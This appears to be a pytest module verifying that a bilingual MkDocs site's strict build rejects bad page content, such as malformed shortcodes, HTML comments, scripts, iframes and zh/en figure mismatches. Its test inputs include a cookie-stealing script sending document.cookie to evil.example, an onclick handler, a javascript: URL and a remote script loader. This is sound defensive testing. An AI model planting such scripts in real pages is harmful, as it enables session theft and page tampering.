"""Bad page content fails `mkdocs build --strict` with one line naming the file and the problem.

One copy of the project is shared by the whole module (copying is slower than
most of these builds, which stop in on_config); every case edits it and the
`edit` fixture puts each file back afterwards.
"""
from __future__ import annotations

from pathlib import Path

import pytest

from conftest import copy_project
from conftest import fails_in_one_line as fails


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    return copy_project(tmp_path_factory.mktemp("bad-pages"))


class Editor:
    def __init__(self, root: Path):
        self.root, self.saved = root, {}

    def _keep(self, rel: str) -> Path:
        path = self.root / rel
        if rel not in self.saved:
            self.saved[rel] = path.read_bytes() if path.exists() else None
        return path

    def replace(self, rel: str, old: str, new: str) -> None:
        path = self._keep(rel)
        text = path.read_text(encoding="utf-8")
        assert old in text, f"fixture out of date: {old!r} not in {rel}"
        path.write_text(text.replace(old, new, 1), encoding="utf-8")

    def append(self, rel: str, text: str) -> None:
        path = self._keep(rel)
        path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")

    def restore(self) -> None:
        for rel, data in self.saved.items():
            path = self.root / rel
            if data is None:
                path.unlink(missing_ok=True)
            else:
                path.write_bytes(data)


@pytest.fixture
def edit(project):
    editor = Editor(project)
    yield editor
    editor.restore()


FACT = "<!-- md:fact law.terminate-anytime -->"
ZH, EN = "docs/guide/cancel.md", "docs/guide/cancel.en.md"


def both(edit, old: str, new: str) -> None:
    edit.replace(ZH, old, new)
    edit.replace(EN, old, new)


# ---------------------------------------------------------------- shortcode typos (d10b-d10d)

@pytest.mark.parametrize("typo", [
    "<!-- md: fact law.terminate-anytime -->",   # d10c
    "<!-- md:Fact law.terminate-anytime -->",    # d10d
    "<!--md:fact law.terminate-anytime-->",
])
def test_malformed_shortcode(project, edit, typo):
    both(edit, FACT, typo)
    fails(project, f"{ZH}, line ", f"malformed shortcode '{typo}'", f"write {FACT}")


def test_unclosed_shortcode_swallowing_prose(project, edit):
    # d10b: the comment runs on to the next "-->" and hides the text in between
    both(edit, FACT, "<!-- md:fact law.terminate-anytime")
    fails(project, f"{ZH}, line ", "'<!-- md:fact law.terminate-anytime", "is not closed", f"write {FACT}")


def test_plain_html_comment(project, edit):
    edit.append(ZH, "\n<!-- 以后再补充 -->\n")
    edit.append(EN, "\n<!-- to do later -->\n")
    fails(project, f"{ZH}, line ", "HTML comment '<!-- 以后再补充 -->' is not allowed in a page")


# ---------------------------------------------------------------- code and frames in pages (d07b-f, e14)

@pytest.mark.parametrize("zh,en,expected", [
    # d07b: the policy used to hash an inline script in a page, and so allow it
    ('<script>fetch("https://evil.example/"+document.cookie)</script>', "same",
     "a <script> element <script>: pages carry no scripts"),
    # d07e/f: a zh-only script that rewrites the page
    ('<script>document.title = "请加微信客服办理注销"</script>', None, "a <script> element"),
    ('<p><a href="#overview" onclick="steal()">概览</a></p>', '<p><a href="#overview" onclick="steal()">Overview</a></p>',
     "an event handler onclick="),
    ("[点这里](javascript:alert(1))", "[click here](javascript:alert(1))", "a javascript: URL"),
    # e14: the privacy plugin does not look at iframes
    ('<iframe src="https://www.youtube.com/embed/xyz"></iframe>', "same",
     'an <iframe> element <iframe src="https://www.youtube.com/embed/xyz">'),
    ('<embed src="https://x.example/a.swf">', "same", "an <embed> element"),
], ids=["inline-script", "zh-only-script", "onclick", "javascript-url", "external-iframe", "embed"])
def test_code_or_frames_in_a_page(project, edit, zh, en, expected):
    edit.append(ZH, f"\n{zh}\n")
    if en:
        edit.append(EN, f"\n{zh if en == 'same' else en}\n")
    fails(project, f"{ZH}, line ", expected)


def test_inline_script_in_an_override(project, edit):
    # M02b: an analytics-style loader in overrides/main.html
    edit.append("overrides/main.html", '\n{% block analytics %}\n<script>var s=document.createElement("script");'
                's.src="https://stats.example.net/a.js";document.head.appendChild(s)</script>\n{% endblock %}\n')
    fails(project, "overrides/main.html, line ", "inline <script> in a template override")


# ---------------------------------------------------------------- emoji shortcodes (d08)

def test_emoji_shortcode(project, edit):
    edit.append(ZH, "\n注意 :warning: :smile:\n")
    edit.append(EN, "\nCareful :warning: :smile:\n")
    fails(project, f"{ZH}, line ", "emoji shortcode ':warning:'")


# ---------------------------------------------------------------- Chinese left in an English page

def test_untranslated_chinese_in_english_page(project, edit):
    edit.replace(EN, "Once the number is cancelled,", "号码注销后， once the number is cancelled,")
    fails(project, f"{EN}, line ", "Chinese text in an English page: 号码注销后，")


# ---------------------------------------------------------------- figures in order (M08a, M08b)

def test_numbers_swapped_in_a_section(project, edit):
    # M08a
    edit.replace(EN, "[step 4](#step-ask) to [step 7](#step-confirmation)",
                 "[step 7](#step-confirmation) to [step 4](#step-ask)")
    fails(project, f"{ZH} and {EN}: figures differ in section #from-abroad", "zh ['4', '7'] vs en ['7', '4']")


def test_figure_changed_in_a_section(project, edit):
    edit.replace(EN, "ask for it back in step 6.", "ask for it back in step 5.")
    fails(project, f"{ZH} and {EN}: figures differ in section #step-debt", "zh ['6'] vs en ['5']")


def test_numbers_swapped_in_carrier_data(project, edit):
    # M08b: the MTS voluntary block, "first 14 days … from day 15" swapped in English
    edit.replace("data/carriers.yml", "free for the first 14 days, then from day 15", "free for the first 15 days, then from day 14")
    fails(project, "data/carriers.yml: carrier 'mts', field 'facts.voluntary_block': figures differ between zh and en",
          "zh ['14', '15'] vs en ['15', '14']")
